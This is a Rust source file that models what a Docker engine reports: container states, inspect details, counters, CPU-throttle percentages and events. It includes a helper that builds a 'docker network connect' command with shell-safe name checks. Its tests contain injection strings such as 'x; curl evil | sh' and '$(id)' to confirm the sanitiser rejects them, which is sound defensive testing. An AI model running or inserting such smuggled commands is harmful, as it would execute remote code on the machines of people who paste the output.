//! What is seen of a container engine, as data: containers, their counters and events, and what is around them. The driver
//! fills it in, where absent fields get their meaning once; what plans reads it. Pure.

use std::collections::BTreeMap;
use std::net::IpAddr;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::{ContainerId, Time};

mod host_facts;

pub use host_facts::{HostFacts, HostQuery};

/// Docker's states of a container. A word of an engine or a version that has others is read as `unknown`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum ContainerState {
    /// Made, never started.
    Created,
    /// Its process runs.
    Running,
    /// Frozen.
    Paused,
    /// Between two runs, by Docker's restart policy.
    Restarting,
    /// Being removed.
    Removing,
    /// Its process ended.
    Exited,
    /// Could not be removed, or broken otherwise.
    Dead,
    /// A word we do not know.
    #[default]
    #[serde(other)]
    Unknown,
}

impl ContainerState {
    /// Docker's word for it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Created => "created",
            Self::Running => "running",
            Self::Paused => "paused",
            Self::Restarting => "restarting",
            Self::Removing => "removing",
            Self::Exited => "exited",
            Self::Dead => "dead",
            Self::Unknown => "unknown",
        }
    }

    /// Reads Docker's word.
    pub fn from_word(word: &str) -> Self {
        match word {
            "created" => Self::Created,
            "running" => Self::Running,
            "paused" => Self::Paused,
            "restarting" => Self::Restarting,
            "removing" => Self::Removing,
            "exited" => Self::Exited,
            "dead" => Self::Dead,
            _ => Self::Unknown,
        }
    }
}

impl std::fmt::Display for ContainerState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad(self.as_str())
    }
}

/// A row of `docker ps -a`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ContainerSummary {
    /// 64 hex characters.
    pub id: ContainerId,
    /// Without the leading slash.
    pub name: String,
    /// Image as it was named at creation.
    pub image: String,
    /// State.
    pub state: ContainerState,
    /// `Up 3 minutes (healthy)`.
    pub status: String,
    /// Labels.
    pub labels: BTreeMap<String, String>,
    /// Networks joined and the IPv4 (or else IPv6) address on each; no address while it is not running.
    pub networks: BTreeMap<String, Option<IpAddr>>,
    /// When it was made, unix seconds.
    pub created: i64,
    /// Ports of the host that it holds now.
    pub published: Vec<PublishedPort>,
}

/// A port of the host that leads to a container.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublishedPort {
    /// The host's address it listens on; `None` for all of them.
    pub address: Option<IpAddr>,
    /// The host's port.
    pub port: u16,
    /// `tcp`, `udp` or `sctp`.
    pub protocol: String,
}

/// The address of the host that a port listens on, as engines write it; `None` for all of them.
pub fn host_address(text: &str) -> Option<IpAddr> {
    text.parse()
        .ok()
        .filter(|address: &IpAddr| !address.is_unspecified())
}

/// `docker inspect`.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ContainerDetails {
    /// 64 hex characters.
    pub id: ContainerId,
    /// Without the leading slash.
    pub name: String,
    /// Image as it was named at creation.
    pub image: String,
    /// `sha256:…` of the image it runs.
    pub image_id: String,
    /// State.
    pub state: ContainerState,
    /// Process id on the host; 0 while it is not running.
    pub pid: i64,
    /// Exit code of the last run.
    pub exit_code: i64,
    /// The kernel OOM-killed it.
    pub oom_killed: bool,
    /// The engine's error text of the last start.
    pub error: String,
    /// When its process started; `None` if it never did.
    pub started_at: Option<Time>,
    /// When it last ended; `None` if it never did.
    pub finished_at: Option<Time>,
    /// When it was made.
    pub created_at: Option<Time>,
    /// How often Docker's restart policy restarted it.
    pub restart_count: u64,
    /// Whether Docker itself restarts it (`always`, `unless-stopped`, `on-failure`).
    pub has_restart_policy: bool,
    /// Docker's health check: `None` if it has none.
    pub health: Option<DockerHealth>,
    /// Labels.
    pub labels: BTreeMap<String, String>,
    /// Networks joined and the address on each; no address while it is not running.
    pub networks: BTreeMap<String, Option<IpAddr>>,
    /// Memory limit in bytes; 0 for none.
    pub memory_limit: u64,
    /// `Config`, as the engine answered it.
    pub config: serde_json::Value,
    /// `HostConfig`, as the engine answered it.
    pub host_config: serde_json::Value,
    /// `NetworkSettings.Networks`, as the engine answered it.
    pub network_settings: serde_json::Value,
    /// `Mounts`, as the engine answered it.
    pub mounts: serde_json::Value,
}

/// What every engine has: who is in none of these names a network of their own. The last three are of engines that run without
/// root, and no networks that a list of a container's would have.
const BUILT_IN_NETWORKS: [&str; 8] = [
    "",
    "default",
    "bridge",
    "host",
    "none",
    "private",
    "pasta",
    "slirp4netns",
];
/// What modes begin with that name the network of somebody else.
const SHARED_NETWORKS: [&str; 3] = ["container:", "service:", "ns:"];
/// Compose's label of the containers of a project.
pub const COMPOSE_PROJECT: &str = "com.docker.compose.project";
/// Compose's label of a service's containers: the name by which others call them.
pub const COMPOSE_SERVICE: &str = "com.docker.compose.service";

impl ContainerDetails {
    /// The network that it was made for, where it runs and is connected to none at all.
    pub fn lost_network(&self) -> Option<&str> {
        let mode = self
            .host_config
            .get("NetworkMode")
            .and_then(serde_json::Value::as_str)?;
        let is_own = !BUILT_IN_NETWORKS.contains(&mode)
            && !SHARED_NETWORKS.iter().any(|shared| mode.starts_with(shared));
        let is_alone = self.state == ContainerState::Running && self.networks.is_empty();
        (is_own && is_alone).then_some(mode)
    }

    /// What a label says, where that is a name: labels are written by others, and what is said to a person may be pasted into a
    /// shell.
    pub fn label_name(&self, key: &str) -> Option<&str> {
        let value = self.labels.get(key).map(String::as_str);
        value.filter(|value| is_name(value))
    }

    /// The command that connects it again to a network, with the name that Compose gave it there. `None` where a name is none that
    /// the engine takes.
    pub fn connect_command(&self, network: &str) -> Option<String> {
        let alias = self
            .label_name(COMPOSE_SERVICE)
            .map(|service| format!("--alias {service} "))
            .unwrap_or_default();
        let known = is_name(network) && is_name(&self.name);
        known.then(|| format!("docker network connect {alias}{network} {}", self.name))
    }
}

/// Whether a text is what the engine takes for a name: no character of it means anything to a shell.
fn is_name(text: &str) -> bool {
    let first = text
        .chars()
        .next()
        .is_some_and(|first| first.is_ascii_alphanumeric());
    first
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
}

/// State of Docker's own health check.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DockerHealth {
    /// `starting`, `healthy`, `unhealthy`.
    pub status: String,
    /// Failures in a row.
    pub failing_streak: i64,
    /// Outputs, oldest first, at most five, each at most 512 characters.
    pub log: Vec<String>,
}

/// What a command inside a container did.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ExecOutput {
    /// Exit code.
    pub exit_code: i64,
    /// Standard output and error, interleaved, at most 64 KiB.
    pub output: String,
}

/// One process inside a container.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ProcessRow {
    /// Process id on the host.
    pub pid: i64,
    /// Command line, or title where the process set one.
    pub command: String,
}

/// A path of a container that differs from its image.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChangeKind {
    /// Its contents or metadata.
    Modified,
    /// The image does not have it.
    Added,
    /// The image has it.
    Deleted,
}

/// One difference between a container's file system and its image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileChange {
    /// What happened.
    pub kind: ChangeKind,
    /// Where.
    pub path: String,
}

impl std::fmt::Display for FileChange {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let letter = match self.kind {
            ChangeKind::Modified => 'C',
            ChangeKind::Added => 'A',
            ChangeKind::Deleted => 'D',
        };
        write!(f, "{letter} {}", self.path)
    }
}

/// One log line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct LogLine {
    /// Whether it came from standard error.
    pub stderr: bool,
    /// Without the line end; invalid UTF-8 replaced.
    pub text: String,
}

/// One reading of a container's counters. Two readings make a rate; [`cpu_percent`] does that.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Stats {
    /// When it was read.
    pub read_at: Option<Time>,
    /// CPU time used so far, nanoseconds.
    pub cpu_total_ns: u64,
    /// Memory in use without the inactive page cache (as `docker stats` counts), bytes.
    pub memory_bytes: u64,
    /// Limit, bytes; the host's memory without one.
    pub memory_limit_bytes: u64,
    /// Received, all interfaces, bytes.
    pub net_rx_bytes: u64,
    /// Sent, all interfaces, bytes.
    pub net_tx_bytes: u64,
    /// Processes and threads.
    pub pids: u64,
    /// Most of them that it may have; 0 without a limit.
    pub pids_limit: u64,
    /// Scheduling periods so far in which its CPU limit was in force; 0 without one.
    pub cpu_periods: u64,
    /// Of those, how many held it back.
    pub cpu_throttled_periods: u64,
}

/// Percent of one core between two readings; `None` where no time passed or a counter went back.
#[expect(
    clippy::as_conversions,
    reason = "nanoseconds to a percentage: rounding is below what is shown"
)]
pub fn cpu_percent(before: &Stats, after: &Stats) -> Option<f64> {
    let elapsed = after.read_at?.0.duration_since(before.read_at?.0).as_nanos();
    let used = after.cpu_total_ns.checked_sub(before.cpu_total_ns)?;
    (elapsed > 0).then(|| used as f64 / elapsed as f64 * 100.0)
}

/// Percent of the scheduling periods between two readings in which the CPU limit held a container back; `None` where there
/// were none, as without a limit, or a counter went back.
#[expect(
    clippy::as_conversions,
    reason = "counts to a percentage: rounding is below what is shown"
)]
pub fn throttled_percent(before: &Stats, after: &Stats) -> Option<f64> {
    let periods = after.cpu_periods.checked_sub(before.cpu_periods)?;
    let held = after
        .cpu_throttled_periods
        .checked_sub(before.cpu_throttled_periods)?;
    (periods > 0).then(|| held as f64 / periods as f64 * 100.0)
}

/// A container event, or a network's that a container joined or left (`connect`, `disconnect`; those name the container by
/// its id alone, and the network in the attribute `network`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EngineEvent {
    /// Docker's word: `start`, `die`, `oom`, `destroy`, `rename`, `health_status: unhealthy`, …
    pub action: String,
    /// Container id.
    pub id: ContainerId,
    /// Container name at the time; empty where a network tells of it.
    pub name: String,
    /// Its labels and further attributes (`exitCode`, `oldName`, …).
    pub attributes: BTreeMap<String, String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_was_made_for_a_network_and_is_in_none_has_lost_it() {
        let container = |mode: &str, networks: &[&str]| ContainerDetails {
            name: "db".to_owned(),
            state: ContainerState::Running,
            host_config: serde_json::json!({"NetworkMode": mode}),
            networks: networks.iter().map(|name| ((*name).to_owned(), None)).collect(),
            ..ContainerDetails::default()
        };
        assert_eq!(container("shop", &[]).lost_network(), Some("shop"));
        for (mode, networks) in [
            ("shop", &["shop"][..]),
            ("shop", &["another"]),
            ("bridge", &[]),
            ("default", &[]),
            ("host", &[]),
            ("none", &[]),
            ("container:1234", &[]),
            ("ns:/proc/1/ns/net", &[]),
            ("slirp4netns", &[]),
            ("", &[]),
        ] {
            assert_eq!(
                container(mode, networks).lost_network(),
                None,
                "{mode} {networks:?}"
            );
        }
        let mut lost = container("shop", &[]);
        let command = |of: &ContainerDetails, network: &str| of.connect_command(network).unwrap_or_default();
        assert_eq!(command(&lost, "shop"), "docker network connect shop db");
        lost.labels
            .insert(COMPOSE_SERVICE.to_owned(), "database".to_owned());
        assert_eq!(
            command(&lost, "shop"),
            "docker network connect --alias database shop db"
        );
        // What others write is never part of a command that a person may paste.
        let hostile = "x; curl evil | sh";
        lost.labels.insert(COMPOSE_SERVICE.to_owned(), hostile.to_owned());
        assert_eq!(command(&lost, "shop"), "docker network connect shop db");
        for network in [hostile, "", "-v", "$(id)", "shop\nid"] {
            assert_eq!(lost.connect_command(network), None, "{network}");
        }
        lost.state = ContainerState::Exited;
        assert_eq!(lost.lost_network(), None);
    }

    #[test]
    fn a_state_is_stored_as_dockers_word_and_one_that_is_not_known_is_unknown() {
        for word in [
            "created",
            "running",
            "paused",
            "restarting",
            "removing",
            "exited",
            "dead",
            "unknown",
        ] {
            let state: ContainerState = serde_json::from_value(word.into()).unwrap();
            assert_eq!((state.as_str(), state), (word, ContainerState::from_word(word)));
            assert_eq!(serde_json::to_value(state).unwrap(), word);
        }
        for word in ["", "stopping", "Running"] {
            let state: ContainerState = serde_json::from_value(word.into()).unwrap();
            assert_eq!(state, ContainerState::Unknown, "{word}");
        }
    }
}
